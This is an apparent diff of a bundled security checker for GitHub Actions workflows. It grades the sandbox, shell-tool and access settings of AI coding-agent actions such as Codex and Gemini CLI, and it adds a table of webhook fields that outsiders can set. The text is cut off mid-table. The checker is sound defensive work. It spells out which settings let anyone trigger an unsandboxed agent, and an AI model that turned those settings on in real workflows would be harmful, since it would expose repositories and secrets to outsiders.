+  if (profile === ":danger-full-access" || profile === ":danger-no-sandbox") return { effects: [{ level: "shell", why: `${shown} runs its commands without a sandbox`, span }] };
+  const where = home && home.trim() !== "" && !home.includes("${{") ? `\`${trimEndOf(home.trim(), "/")}/config.toml\` (\`codex-home\`)` : "the Codex home's `config.toml`";
+  return { effects: [{ level: "limited", why: `${shown} is a profile defined in ${where}, which this check cannot read: it decides what the commands may do`, span }] };
+}
+var CODEX_READ_ONLY_STRATEGY = { "safety-strategy": "read-only", safety_strategy: "read_only" };
+function codexReadOnlyStrategy(step) {
+  return Object.entries(CODEX_READ_ONLY_STRATEGY).some(([name, value]) => withValue(step, name)?.text.trim() === value);
+}
+function readCodexSafety(name, key, text, span) {
+  if (text.trim() === CODEX_READ_ONLY_STRATEGY[name]) {
+    const why = `\`${key}: ${text.trim()}\` runs Codex in a read-only sandbox whatever \`sandbox\` says: its commands read files but cannot write them or reach the network (the action warns that Codex keeps the runner's sudo and could print \`openai-api-key\`)`;
+    return { base: { level: "none", why, span }, effects: [] };
+  }
+  return readingOf(genericEffect(name, key, text, span));
+}
+function readCodexSandbox(step, key, text, span) {
+  if (codexReadOnlyStrategy(step)) return { effects: [] };
+  const mode = text.trim();
+  const shown = `\`${key}: ${mode}\``;
+  if (mode === "read-only") return { base: { level: "none", why: `${shown} lets the commands it runs read files but not write them or reach the network`, span }, effects: [] };
+  if (mode === "workspace-write") return { effects: [{ level: "limited", why: `${shown} lets the commands it runs write inside the workspace`, span }] };
+  if (mode === "danger-full-access") return { effects: [{ level: "shell", why: `${shown} runs its commands without a sandbox`, span }] };
+  return readingOf(genericEffect("sandbox", key, text, span));
+}
+function readCodexToolInput(step, name, key, text, span) {
+  if (name === "permission-profile") return readCodexProfile(key, text, span, withValue(step, "codex-home")?.text ?? null);
+  if (name === "safety-strategy" || name === "safety_strategy") return readCodexSafety(name, key, text, span);
+  if (name === "sandbox") return readCodexSandbox(step, key, text, span);
+  return null;
+}
+function codexBotsWhy(name, key, text, ref2) {
+  const minor = /^v?1\.(\d+)(?:\.\d+)*$/.exec(ref2 ?? "")?.[1];
+  const anyBot = "lets any account whose login ends in `[bot]` (GitHub Apps, Dependabot) skip the write-access check";
+  if (name === "allow_bots") return `\`${key}: ${text}\` ${anyBot}`;
+  if (minor !== void 0 && Number(minor) < 7) return `\`${key}: ${text}\` ${anyBot} (openai/codex-action before v1.7)`;
+  return `\`${key}: ${text}\` lets only \`github-actions[bot]\` (events made by this repository's own workflows) skip the write-access check; other bots still need write access (releases before v1.7 let any \`[bot]\` account through)`;
+}
+var CODEX_ACCESS_INPUTS = /* @__PURE__ */ new Set(["require_repo_write", "allow-users", "allow-bots", "allow_bots", "allow-bot-users"]);
+function readCodexAccess(name, key, text, span, ref2) {
+  if (name === "require_repo_write") {
+    return /^false$/i.test(text) ? { open: true, why: `\`${key}: ${text}\` lets anyone trigger it`, span } : null;
+  }
+  if (name === "allow-users") {
+    if (text === "*") return { open: true, why: `\`${key}: '*'\` lets anyone trigger it`, span };
+    if (text !== "" && !text.includes("${{")) return { open: false, why: namedUsersWhy(`\`${key}: ${text}\``, text), span };
+    return null;
+  }
+  if (name === "allow-bots" || name === "allow_bots") {
+    return /^(true|1|yes|y)$/i.test(text) ? { open: false, why: codexBotsWhy(name, key, text, ref2), span } : null;
+  }
+  if (name === "allow-bot-users" && text !== "") {
+    const bots = text.split(",").map((bot) => bot.trim()).filter((bot) => bot !== "");
+    const why = text.includes("*") ? `\`${key}: '${text}'\` is refused by the action: its write-access check then rejects every run` : `\`${key}: ${text}\` lets the bots ${quoteList(bots)} skip the write-access check`;
+    return { open: false, why, span };
+  }
+  return null;
+}
+
+// server/src/knowledge/agents/gemini.ts
+var GEMINI_ACTION = "google-github-actions/run-gemini-cli";
+var BARE_GEMINI_SHELL = /^(run_shell_command|ShellTool)$/;
+var GEMINI_SHELL_PREFIX = /^(run_shell_command|ShellTool)\s*\(/;
+function readGeminiSettings(key, text, span) {
+  const settings = jsonObject(text);
+  if (!settings && !text.trim().startsWith("{")) return { effects: [] };
+  const tools = settings ? objectAt(settings.tools) : null;
+  const coreFlat = settings ? stringsAt(settings.coreTools) : looseList(text, "coreTools");
+  const coreNested = settings ? stringsAt(tools?.core) : looseList(text, "core");
+  const core = coreFlat ?? coreNested;
+  const coreKey = coreFlat ? "coreTools" : "tools.core";
+  const excluded = [
+    ...(settings ? stringsAt(settings.excludeTools) : looseList(text, "excludeTools")) ?? [],
+    ...(settings ? stringsAt(tools?.exclude) : looseList(text, "exclude")) ?? []
+  ];
+  const input2 = `\`${key}\``;
+  const reading = { effects: [] };
+  if (core) {
+    reading.base = { level: "limited", why: `${input2} limits its core tools (\`${coreKey}\`)`, span };
+    const anyShell = core.filter((tool) => BARE_GEMINI_SHELL.test(tool));
+    const someShell = core.filter((tool) => GEMINI_SHELL_PREFIX.test(tool));
+    if (anyShell.length > 0) reading.effects.push({ level: "shell", why: `${input2} lists ${quoteList(anyShell)} among its core tools (\`${coreKey}\`): any shell command`, span, shellTool: true });
+    else if (someShell.length > 0) reading.effects.push({ level: "limited", why: `${input2} allows some shell commands (${quoteList(someShell)} in \`${coreKey}\`)`, span, shellTool: true });
+  }
+  const excludedShell = excluded.find((tool) => BARE_GEMINI_SHELL.test(tool));
+  if (excludedShell) {
+    const flatExcluded = settings ? stringsAt(settings.excludeTools) : looseList(text, "excludeTools");
+    const where = flatExcluded?.includes(excludedShell) ? "excludeTools" : "tools.exclude";
+    reading.shellDenied = { why: `${input2} excludes \`${excludedShell}\` (\`${where}\`)`, span, left: ", but `gemini --yolo` still approves its other tools, file writes included" };
+  }
+  return reading;
+}
+
+// server/src/knowledge/agents/index.ts
+function readToolInput(step, action, ref2, name, key, text, span) {
+  let reading = null;
+  if (CLAUDE_ACTIONS.has(action)) reading = readClaudeToolInput(name, key, text, span, ref2);
+  else if (action === GEMINI_ACTION && name === "settings") reading = readGeminiSettings(key, text, span);
+  else if (action === CODEX_ACTION) reading = readCodexToolInput(step, name, key, text, span);
+  return reading ?? readingOf(genericEffect(name, key, text, span));
+}
+var RANK = { none: 0, limited: 1, shell: 2 };
+function agentTools(step, agent, ref2) {
+  let tools = agent.tools;
+  let toolsWhy = agent.toolsWhy;
+  let toolsSpan = null;
+  let raised = false;
+  const readings = [];
+  for (const name of agent.toolInputs) {
+    const value = withValue(step, name);
+    if (value) readings.push(readToolInput(step, agent.action, ref2, name, value.entry.key, value.text, value.entry.valueSpan));
+  }
+  for (const reading of readings) {
+    if (!reading.base) continue;
+    tools = reading.base.level;
+    toolsWhy = reading.base.why;
+    toolsSpan = reading.base.span;
+  }
+  const shellDenied = readings.find((reading) => reading.shellDenied)?.shellDenied;
+  for (const effect of readings.flatMap((reading) => reading.effects)) {
+    let { level, why } = effect;
+    if (shellDenied && effect.shellTool) continue;
+    if (shellDenied && effect.bypass && level === "shell") {
+      level = "limited";
+      why = `${why}, but ${shellDenied.why}`;
+    }
+    if (RANK[level] > RANK[tools] || !raised && RANK[level] === RANK[tools] && level !== "none") {
+      tools = level;
+      toolsWhy = why;
+      toolsSpan = effect.span;
+      raised = true;
+    }
+  }
+  if (shellDenied && tools === "shell") {
+    tools = "limited";
+    toolsWhy = `${shellDenied.why}${shellDenied.left}`;
+    toolsSpan = shellDenied.span;
+  }
+  return { tools, toolsWhy, toolsSpan };
+}
+function readAccessInput(step, action, ref2, name, key, text, span) {
+  if (name === "require_repo_write" || action === CODEX_ACTION && CODEX_ACCESS_INPUTS.has(name)) return readCodexAccess(name, key, text, span, ref2);
+  if (name === "allowed_non_write_users") return readClaudeNonWriteUsers(step, key, text, span);
+  if (!/bot/i.test(name) && text === "*") return { open: true, why: `\`${key}: '${text}'\` lets anyone trigger it`, span };
+  if (/bot/i.test(name) && /^(\*|true)$/i.test(text)) return { open: false, why: `\`${key}: ${text}\` lets any bot trigger it`, span };
+  return null;
+}
+function agentAccess(step, agent, ref2) {
+  let open = false;
+  let openWhy = "";
+  let openSpan = null;
+  for (const name of agent.openAccessInputs) {
+    const value = withValue(step, name);
+    if (!value) continue;
+    const effect = readAccessInput(step, agent.action, ref2, name, value.entry.key, value.text.trim(), value.entry.valueSpan);
+    if (!effect || !effect.open && open) continue;
+    open ||= effect.open;
+    openWhy = effect.why;
+    openSpan = effect.span;
+  }
+  return { open, openWhy, openSpan };
+}
+
 // server/src/knowledge/triggers.ts
 var PR_FROM_FORK = "anyone who can open a pull request, including from a fork";
 var TRIGGERS = {
@@ -8617,36 +10251,848 @@ function triggerInfo(name) {
   return Object.prototype.hasOwnProperty.call(TRIGGERS, name) ? TRIGGERS[name] : void 0;
 }
 
-// server/src/rules/dangerous-triggers.ts
-var DANGEROUS = /* @__PURE__ */ new Set(["pull_request_target", "workflow_run"]);
-var dangerousTriggers = {
-  id: "dangerous-triggers",
-  title: "Privileged trigger reachable by outsiders",
-  kinds: ["workflow"],
+// server/src/knowledge/webhook-contexts.generated.ts
+var WEBHOOK_FIELDS = {
+  branch_protection_rule: {
+    a: "changes.authorized_actor_names.from.* changes.required_status_checks.from.* rule.authorized_actor_names.* rule.name rule.required_status_checks.* sender.name",
+    s: "sender.email sender.login"
+  },
+  check_run: {
+    a: "check_run.app.description check_run.app.external_url check_run.app.name check_run.app.owner.description check_run.app.owner.name check_run.app.owner.website_url check_run.check_suite.app.description check_run.check_suite.app.external_url check_run.check_suite.app.name check_run.check_suite.app.owner.description check_run.check_suite.app.owner.name check_run.check_suite.app.owner.website_url check_run.check_suite.head_branch check_run.check_suite.pull_requests.*.base.ref check_run.check_suite.pull_requests.*.head.ref check_run.check_suite.repository.code_of_conduct.body check_run.check_suite.repository.code_of_conduct.name check_run.check_suite.repository.custom_properties.* check_run.check_suite.repository.description check_run.check_suite.repository.homepage check_run.check_suite.repository.license.name check_run.check_suite.repository.mirror_url check_run.check_suite.repository.owner.name check_run.check_suite.repository.topics.* check_run.deployment.description check_run.deployment.environment check_run.deployment.original_environment check_run.deployment.performed_via_github_app.description check_run.deployment.performed_via_github_app.external_url check_run.deployment.performed_via_github_app.name check_run.deployment.performed_via_github_app.owner.description check_run.deployment.performed_via_github_app.owner.name check_run.deployment.performed_via_github_app.owner.website_url check_run.deployment.task check_run.details_url check_run.external_id check_run.name check_run.output.summary check_run.output.text check_run.output.title check_run.pull_requests.*.base.ref check_run.pull_requests.*.head.ref requested_action.identifier sender.name",
+    s: "check_run.app.owner.email check_run.app.owner.login check_run.app.owner.slug check_run.app.slug check_run.check_suite.app.owner.email check_run.check_suite.app.owner.login check_run.check_suite.app.owner.slug check_run.check_suite.app.slug check_run.check_suite.pull_requests.*.base.repo.name check_run.check_suite.pull_requests.*.head.repo.name check_run.check_suite.repository.full_name check_run.check_suite.repository.name check_run.check_suite.repository.owner.email check_run.check_suite.repository.owner.login check_run.deployment.performed_via_github_app.owner.email check_run.deployment.performed_via_github_app.owner.login check_run.deployment.performed_via_github_app.owner.slug check_run.deployment.performed_via_github_app.slug check_run.pull_requests.*.base.repo.name check_run.pull_requests.*.head.repo.name sender.email sender.login"
+  },
+  check_suite: {
+    a: "check_suite.app.description check_suite.app.external_url check_suite.app.name check_suite.app.owner.name check_suite.head_branch check_suite.head_commit.author.name check_suite.head_commit.committer.name check_suite.head_commit.message check_suite.pull_requests.*.base.ref check_suite.pull_requests.*.head.ref sender.name",
+    s: "check_suite.app.owner.email check_suite.app.owner.login check_suite.app.slug check_suite.head_commit.author.email check_suite.head_commit.author.username check_suite.head_commit.committer.email check_suite.head_commit.committer.username check_suite.pull_requests.*.base.repo.name check_suite.pull_requests.*.head.repo.name sender.email sender.login"
+  },
+  create: {
+    a: "description pusher_type ref sender.name",
+    s: "sender.email sender.login"
+  },
+  delete: {
+    a: "pusher_type ref sender.name",
+    s: "sender.email sender.login"
+  },
+  deployment: {
+    a: "deployment.creator.name deployment.description deployment.environment deployment.original_environment deployment.payload deployment.payload.* deployment.performed_via_github_app.description deployment.performed_via_github_app.external_url deployment.performed_via_github_app.name deployment.performed_via_github_app.owner.name deployment.ref deployment.task sender.name workflow.name workflow_run.actor.name workflow_run.display_title workflow_run.head_branch workflow_run.name workflow_run.pull_requests.*.base.ref workflow_run.pull_requests.*.head.ref workflow_run.referenced_workflows.*.ref workflow_run.triggering_actor.name",
+    s: "deployment.creator.email deployment.creator.login deployment.performed_via_github_app.owner.email deployment.performed_via_github_app.owner.login deployment.performed_via_github_app.slug sender.email sender.login workflow_run.actor.email workflow_run.actor.login workflow_run.head_repository.full_name workflow_run.head_repository.name workflow_run.head_repository.owner.login workflow_run.pull_requests.*.base.repo.name workflow_run.pull_requests.*.head.repo.name workflow_run.repository.full_name workflow_run.repository.name workflow_run.repository.owner.login workflow_run.triggering_actor.email workflow_run.triggering_actor.login"
+  },
+  deployment_status: {
+    a: "check_run.details_url check_run.external_id check_run.name deployment.creator.name deployment.description deployment.environment deployment.original_environment deployment.payload deployment.payload.* deployment.performed_via_github_app.description deployment.performed_via_github_app.external_url deployment.performed_via_github_app.name deployment.performed_via_github_app.owner.name deployment.ref deployment.task deployment_status.creator.name deployment_status.description deployment_status.environment deployment_status.performed_via_github_app.description deployment_status.performed_via_github_app.external_url deployment_status.performed_via_github_app.name deployment_status.performed_via_github_app.owner.name deployment_status.target_url sender.name workflow.name workflow_run.actor.name workflow_run.display_title workflow_run.head_branch workflow_run.name workflow_run.pull_requests.*.base.ref workflow_run.pull_requests.*.head.ref workflow_run.referenced_workflows.*.ref workflow_run.triggering_actor.name",
+    s: "deployment.creator.email deployment.creator.login deployment.performed_via_github_app.owner.email deployment.performed_via_github_app.owner.login deployment.performed_via_github_app.slug deployment_status.creator.email deployment_status.creator.login deployment_status.performed_via_github_app.owner.email deployment_status.performed_via_github_app.owner.login deployment_status.performed_via_github_app.slug sender.email sender.login workflow_run.actor.email workflow_run.actor.login workflow_run.head_repository.full_name workflow_run.head_repository.name workflow_run.head_repository.owner.login workflow_run.pull_requests.*.base.repo.name workflow_run.pull_requests.*.head.repo.name workflow_run.repository.full_name workflow_run.repository.name workflow_run.repository.owner.login workflow_run.triggering_actor.email workflow_run.triggering_actor.login"
+  },
+  discussion: {
+    a: "answer.body answer.user.name changes.body.from changes.category.from.description changes.category.from.emoji changes.category.from.name changes.new_discussion.active_lock_reason changes.new_discussion.answer_chosen_by.name changes.new_discussion.answer_html_url changes.new_discussion.body changes.new_discussion.category.description changes.new_discussion.category.emoji changes.new_discussion.category.name changes.new_discussion.labels.*.description changes.new_discussion.labels.*.name changes.new_discussion.title changes.new_discussion.user.name changes.new_repository.custom_properties.* changes.new_repository.description changes.new_repository.full_name changes.new_repository.homepage changes.new_repository.license.name changes.new_repository.name changes.new_repository.organization.name changes.new_repository.owner.name changes.new_repository.template_repository.description changes.new_repository.template_repository.homepage changes.new_repository.template_repository.topics.* changes.new_repository.topics.* changes.title.from discussion.active_lock_reason discussion.answer_chosen_by.name discussion.answer_html_url discussion.body discussion.category.description discussion.category.emoji discussion.category.name discussion.labels.*.description discussion.labels.*.name discussion.title discussion.user.name label.description label.name old_answer.body old_answer.user.name sender.name",
+    s: "answer.user.email answer.user.login changes.category.from.slug changes.new_discussion.answer_chosen_by.email changes.new_discussion.answer_chosen_by.login changes.new_discussion.category.slug changes.new_discussion.user.email changes.new_discussion.user.login changes.new_repository.organization.email changes.new_repository.organization.login changes.new_repository.owner.email changes.new_repository.owner.login changes.new_repository.template_repository.full_name changes.new_repository.template_repository.name changes.new_repository.template_repository.owner.login discussion.answer_chosen_by.email discussion.answer_chosen_by.login discussion.category.slug discussion.user.email discussion.user.login old_answer.user.email old_answer.user.login sender.email sender.login"
+  },
+  discussion_comment: {
+    a: "changes.body.from comment.body comment.user.name discussion.active_lock_reason discussion.answer_chosen_by.name discussion.answer_html_url discussion.body discussion.category.description discussion.category.emoji discussion.category.name discussion.labels.*.description discussion.labels.*.name discussion.title discussion.user.name sender.name",
+    s: "comment.user.email comment.user.login discussion.answer_chosen_by.email discussion.answer_chosen_by.login discussion.category.slug discussion.user.email discussion.user.login sender.email sender.login"
+  },
+  fork: {
+    a: "forkee.description forkee.homepage forkee.license.name forkee.organization forkee.owner.name forkee.topics.* sender.name",
+    s: "forkee.full_name forkee.name forkee.owner.email forkee.owner.login sender.email sender.login"
+  },
+  gollum: {
+    a: "pages.*.page_name pages.*.summary pages.*.title sender.name",
+    s: "sender.email sender.login"
+  },
+  issue_comment: {
+    a: "changes.body.from comment.body comment.performed_via_github_app.description comment.performed_via_github_app.external_url comment.performed_via_github_app.name comment.performed_via_github_app.owner.description comment.performed_via_github_app.owner.name comment.performed_via_github_app.owner.website_url comment.user.name issue.active_lock_reason issue.assignee.name issue.assignees.*.name issue.body issue.labels.*.description issue.labels.*.name issue.milestone.creator.name issue.milestone.description issue.milestone.title issue.performed_via_github_app.description issue.performed_via_github_app.external_url issue.performed_via_github_app.name issue.performed_via_github_app.owner.name issue.title issue.type.description issue.type.name issue.user.name sender.name",
+    s: "comment.performed_via_github_app.owner.email comment.performed_via_github_app.owner.login comment.performed_via_github_app.owner.slug comment.performed_via_github_app.slug comment.user.email comment.user.login issue.assignee.email issue.assignee.login issue.assignees.*.email issue.assignees.*.login issue.milestone.creator.email issue.milestone.creator.login issue.performed_via_github_app.owner.email issue.performed_via_github_app.owner.login issue.performed_via_github_app.slug issue.user.email issue.user.login sender.email sender.login"
+  },
+  issues: {
+    a: "assignee.name changes.body.from changes.new_issue.assignee.name changes.new_issue.assignees.*.name changes.new_issue.body changes.new_issue.issue_field_values.*.single_select_option.name changes.new_issue.issue_field_values.*.value changes.new_issue.labels.*.description changes.new_issue.labels.*.name changes.new_issue.milestone.creator.name changes.new_issue.milestone.description changes.new_issue.milestone.title changes.new_issue.performed_via_github_app.description changes.new_issue.performed_via_github_app.external_url changes.new_issue.performed_via_github_app.name changes.new_issue.performed_via_github_app.owner.name changes.new_issue.title changes.new_issue.type.description changes.new_issue.type.name changes.new_issue.user.name changes.new_repository.custom_properties.* changes.new_repository.description changes.new_repository.full_name changes.new_repository.homepage changes.new_repository.license.name changes.new_repository.name changes.new_repository.organization changes.new_repository.owner.name changes.new_repository.topics.* changes.old_issue.assignee.name changes.old_issue.assignees.*.name changes.old_issue.body changes.old_issue.issue_field_values.*.single_select_option.name changes.old_issue.issue_field_values.*.value changes.old_issue.labels.*.description changes.old_issue.labels.*.name changes.old_issue.milestone.creator.name changes.old_issue.milestone.description changes.old_issue.milestone.title changes.old_issue.performed_via_github_app.description changes.old_issue.performed_via_github_app.external_url changes.old_issue.performed_via_github_app.name changes.old_issue.performed_via_github_app.owner.name changes.old_issue.title changes.old_issue.type.description changes.old_issue.type.name changes.old_issue.user.name changes.old_repository.custom_properties.* changes.old_repository.description changes.old_repository.full_name changes.old_repository.homepage changes.old_repository.license.name changes.old_repository.name changes.old_repository.organization changes.old_repository.owner.name changes.old_repository.topics.* changes.title.from issue.active_lock_reason issue.assignee.name issue.assignees.*.name issue.body issue.issue_field_values.*.single_select_option.name issue.issue_field_values.*.value issue.labels.*.description issue.labels.*.name issue.milestone.creator.name issue.milestone.description issue.milestone.title issue.performed_via_github_app.description issue.performed_via_github_app.external_url issue.performed_via_github_app.name issue.performed_via_github_app.owner.name issue.title issue.type.description issue.type.name issue.user.name label.description label.name milestone.creator.name milestone.description milestone.title sender.name type.description type.name",
+    s: "assignee.email assignee.login changes.new_issue.assignee.email changes.new_issue.assignee.login changes.new_issue.assignees.*.email changes.new_issue.assignees.*.login changes.new_issue.milestone.creator.email changes.new_issue.milestone.creator.login changes.new_issue.performed_via_github_app.owner.email changes.new_issue.performed_via_github_app.owner.login changes.new_issue.performed_via_github_app.slug changes.new_issue.user.email changes.new_issue.user.login changes.new_repository.owner.email changes.new_repository.owner.login changes.old_issue.assignee.email changes.old_issue.assignee.login changes.old_issue.assignees.*.email changes.old_issue.assignees.*.login changes.old_issue.milestone.creator.email changes.old_issue.milestone.creator.login changes.old_issue.performed_via_github_app.owner.email changes.old_issue.performed_via_github_app.owner.login changes.old_issue.performed_via_github_app.slug changes.old_issue.user.email changes.old_issue.user.login changes.old_repository.owner.email changes.old_repository.owner.login issue.assignee.email issue.assignee.login issue.assignees.*.email issue.assignees.*.login issue.milestone.creator.email issue.milestone.creator.login issue.performed_via_github_app.owner.email issue.performed_via_github_app.owner.login issue.performed_via_github_app.slug issue.user.email issue.user.login milestone.creator.email milestone.creator.login sender.email sender.login"
+  },
+  label: {
+    a: "changes.color.from changes.description.from changes.name.from label.description label.name sender.name",
+    s: "sender.email sender.login"
+  },
+  merge_group: {
+    a: "merge_group.base_ref merge_group.head_commit.author.name merge_group.head_commit.committer.name merge_group.head_commit.message merge_group.head_ref sender.name",
+    s: "merge_group.head_commit.author.email merge_group.head_commit.committer.email sender.email sender.login"
+  },
+  milestone: {
+    a: "changes.description.from changes.due_on.from changes.title.from milestone.creator.name milestone.description milestone.title sender.name",
+    s: "milestone.creator.email milestone.creator.login sender.email sender.login"
+  },
+  page_build: {
+    a: "build.commit build.error.message sender.name",
+    s: "build.pusher.email build.pusher.login build.pusher.name sender.email sender.login"
+  },
+  public: {
+    a: "sender.name",
+    s: "sender.email sender.login"
+  },
+  pull_request: {
+    a: "assignee.name changes.base.ref.from changes.body.from changes.title.from label.description label.name milestone.creator.name milestone.description milestone.title pull_request.active_lock_reason pull_request.assignee.name pull_request.assignees.*.name pull_request.auto_merge.commit_message pull_request.auto_merge.commit_title pull_request.auto_merge.enabled_by.name pull_request.base.label pull_request.base.ref pull_request.base.repo.description pull_request.base.repo.homepage pull_request.base.repo.license.name pull_request.base.repo.organization pull_request.base.repo.owner.name pull_request.base.repo.topics.* pull_request.base.user.name pull_request.body pull_request.head.label pull_request.head.ref pull_request.head.repo.description pull_request.head.repo.homepage pull_request.head.repo.license.name pull_request.head.repo.organization pull_request.head.repo.owner.name pull_request.head.repo.topics.* pull_request.head.user.name pull_request.labels.*.description pull_request.labels.*.name pull_request.merged_by.name pull_request.milestone.creator.name pull_request.milestone.description pull_request.milestone.title pull_request.requested_reviewers.*.description pull_request.requested_reviewers.*.name pull_request.requested_reviewers.*.parent.description pull_request.requested_reviewers.*.parent.name pull_request.requested_teams.*.description pull_request.requested_teams.*.name pull_request.requested_teams.*.parent.description pull_request.requested_teams.*.parent.name pull_request.title pull_request.user.name reason requested_reviewer.name requested_team.description requested_team.name requested_team.parent.description requested_team.parent.name sender.name",
+    s: "assignee.email assignee.login milestone.creator.email milestone.creator.login pull_request.assignee.email pull_request.assignee.login pull_request.assignees.*.email pull_request.assignees.*.login pull_request.auto_merge.enabled_by.email pull_request.auto_merge.enabled_by.login pull_request.base.repo.full_name pull_request.base.repo.name pull_request.base.repo.owner.email pull_request.base.repo.owner.login pull_request.base.user.email pull_request.base.user.login pull_request.head.repo.full_name pull_request.head.repo.name pull_request.head.repo.owner.email pull_request.head.repo.owner.login pull_request.head.user.email pull_request.head.user.login pull_request.merged_by.email pull_request.merged_by.login pull_request.milestone.creator.email pull_request.milestone.creator.login pull_request.requested_reviewers.*.email pull_request.requested_reviewers.*.login pull_request.requested_reviewers.*.parent.slug pull_request.requested_reviewers.*.slug pull_request.requested_teams.*.parent.slug pull_request.requested_teams.*.slug pull_request.user.email pull_request.user.login requested_reviewer.email requested_reviewer.login requested_team.parent.slug requested_team.slug sender.email sender.login"
+  },
+  pull_request_review: {
+    a: "changes.body.from pull_request.assignee.name pull_request.assignees.*.name pull_request.auto_merge.commit_message pull_request.auto_merge.commit_title pull_request.auto_merge.enabled_by.name pull_request.base.label pull_request.base.ref pull_request.base.repo.description pull_request.base.repo.homepage pull_request.base.repo.license.name pull_request.base.repo.organization pull_request.base.repo.owner.name pull_request.base.repo.topics.* pull_request.base.user.name pull_request.body pull_request.head.label pull_request.head.ref pull_request.head.repo.description pull_request.head.repo.homepage pull_request.head.repo.license.name pull_request.head.repo.organization pull_request.head.repo.owner.name pull_request.head.repo.topics.* pull_request.head.user.name pull_request.labels.*.description pull_request.labels.*.name pull_request.milestone.creator.name pull_request.milestone.description pull_request.milestone.title pull_request.requested_reviewers.*.description pull_request.requested_reviewers.*.name pull_request.requested_reviewers.*.parent.description pull_request.requested_reviewers.*.parent.name pull_request.requested_teams.*.description pull_request.requested_teams.*.name pull_request.requested_teams.*.parent.description pull_request.requested_teams.*.parent.name pull_request.title pull_request.user.name review.body review.user.name sender.name",
+    s: "pull_request.assignee.email pull_request.assignee.login pull_request.assignees.*.email pull_request.assignees.*.login pull_request.auto_merge.enabled_by.email pull_request.auto_merge.enabled_by.login pull_request.base.repo.full_name pull_request.base.repo.name pull_request.base.repo.owner.email pull_request.base.repo.owner.login pull_request.base.user.email pull_request.base.user.login pull_request.head.repo.full_name pull_request.head.repo.name pull_request.head.repo.owner.email pull_request.head.repo.owner.login pull_request.head.user.email pull_request.head.user.login pull_request.milestone.creator.email pull_request.milestone.creator.login pull_request.requested_reviewers.*.email pull_request.requested_reviewers.*.login pull_request.requested_reviewers.*.parent.slug pull_request.requested_reviewers.*.slug pull_request.requested_teams.*.parent.slug pull_request.requested_teams.*.slug pull_request.user.email pull_request.user.login review.user.email review.user.login sender.email sender.login"
+  },
+  pull_request_review_comment: {
+    a: "changes.body.from comment.body comment.diff_hunk comment.path comment.user.name pull_request.assignee.name pull_request.assignees.*.name pull_request.auto_merge.commit_message pull_request.auto_merge.commit_title pull_request.auto_merge.enabled_by.name pull_request.base.label pull_request.base.ref pull_request.base.repo.description pull_request.base.repo.homepage pull_request.base.repo.license.name pull_request.base.repo.organization pull_request.base.repo.owner.name pull_request.base.repo.topics.* pull_request.base.user.name pull_request.body pull_request.head.label pull_request.head.ref pull_request.head.repo.description pull_request.head.repo.homepage pull_request.head.repo.license.name pull_request.head.repo.organization pull_request.head.repo.owner.name pull_request.head.repo.topics.* pull_request.head.user.name pull_request.labels.*.description pull_request.labels.*.name pull_request.milestone.creator.name pull_request.milestone.description pull_request.milestone.title pull_request.requested_reviewers.*.description pull_request.requested_reviewers.*.name pull_request.requested_reviewers.*.parent.description pull_request.requested_reviewers.*.parent.name pull_request.requested_teams.*.description pull_request.requested_teams.*.name pull_request.requested_teams.*.parent.description pull_request.requested_teams.*.parent.name pull_request.title pull_request.user.name sender.name",
+    s: "comment.user.email comment.user.login pull_request.assignee.email pull_request.assignee.login pull_request.assignees.*.email pull_request.assignees.*.login pull_request.auto_merge.enabled_by.email pull_request.auto_merge.enabled_by.login pull_request.base.repo.full_name pull_request.base.repo.name pull_request.base.repo.owner.email pull_request.base.repo.owner.login pull_request.base.user.email pull_request.base.user.login pull_request.head.repo.full_name pull_request.head.repo.name pull_request.head.repo.owner.email pull_request.head.repo.owner.login pull_request.head.user.email pull_request.head.user.login pull_request.milestone.creator.email pull_request.milestone.creator.login pull_request.requested_reviewers.*.email pull_request.requested_reviewers.*.login pull_request.requested_reviewers.*.parent.slug pull_request.requested_reviewers.*.slug pull_request.requested_teams.*.parent.slug pull_request.requested_teams.*.slug pull_request.user.email pull_request.user.login sender.email sender.login"
+  },
+  push: {
+    a: "base_ref commits.*.added.* commits.*.author.name commits.*.committer.name commits.*.message commits.*.modified.* commits.*.removed.* head_commit.added.* head_commit.author.name head_commit.committer.name head_commit.message head_commit.modified.* head_commit.removed.* ref sender.name",
+    s: "commits.*.author.email commits.*.author.username commits.*.committer.email commits.*.committer.username head_commit.author.email head_commit.author.username head_commit.committer.email head_commit.committer.username pusher.email pusher.name pusher.username sender.email sender.login"
+  },
+  registry_package: {
+    a: "registry_package.description registry_package.ecosystem registry_package.name registry_package.namespace registry_package.package_type registry_package.package_version.body registry_package.package_version.body.* registry_package.package_version.body_html registry_package.package_version.container_metadata.labels.* registry_package.package_version.container_metadata.manifest.* registry_package.package_version.container_metadata.tag.name registry_package.package_version.description registry_package.package_version.docker_metadata.*.tags.* registry_package.package_version.installation_command registry_package.package_version.manifest registry_package.package_version.metadata.*.* registry_package.package_version.name registry_package.package_version.npm_metadata.author registry_package.package_version.npm_metadata.author.* registry_package.package_version.npm_metadata.bin.* registry_package.package_version.npm_metadata.bugs registry_package.package_version.npm_metadata.bugs.* registry_package.package_version.npm_metadata.commit_oid registry_package.package_version.npm_metadata.contributors.* registry_package.package_version.npm_metadata.cpu.* registry_package.package_version.npm_metadata.dependencies.* registry_package.package_version.npm_metadata.description registry_package.package_version.npm_metadata.dev_dependencies.* registry_package.package_version.npm_metadata.directories registry_package.package_version.npm_metadata.directories.* registry_package.package_version.npm_metadata.dist registry_package.package_version.npm_metadata.dist.* registry_package.package_version.npm_metadata.engines.* registry_package.package_version.npm_metadata.files.* registry_package.package_version.npm_metadata.git_head registry_package.package_version.npm_metadata.homepage registry_package.package_version.npm_metadata.installation_command registry_package.package_version.npm_metadata.keywords.* registry_package.package_version.npm_metadata.main registry_package.package_version.npm_metadata.maintainers.* registry_package.package_version.npm_metadata.man.* registry_package.package_version.npm_metadata.name registry_package.package_version.npm_metadata.node_version registry_package.package_version.npm_metadata.npm_user registry_package.package_version.npm_metadata.npm_version registry_package.package_version.npm_metadata.optional_dependencies.* registry_package.package_version.npm_metadata.os.* registry_package.package_version.npm_metadata.peer_dependencies.* registry_package.package_version.npm_metadata.readme registry_package.package_version.npm_metadata.repository registry_package.package_version.npm_metadata.repository.* registry_package.package_version.npm_metadata.scripts.* registry_package.package_version.npm_metadata.version registry_package.package_version.nuget_metadata.*.id.* registry_package.package_version.nuget_metadata.*.name registry_package.package_version.nuget_metadata.*.value registry_package.package_version.nuget_metadata.*.value.branch registry_package.package_version.nuget_metadata.*.value.commit registry_package.package_version.package_files.*.content_type registry_package.package_version.package_files.*.md5 registry_package.package_version.package_files.*.name registry_package.package_version.package_files.*.sha1 registry_package.package_version.package_files.*.sha256 registry_package.package_version.release.name 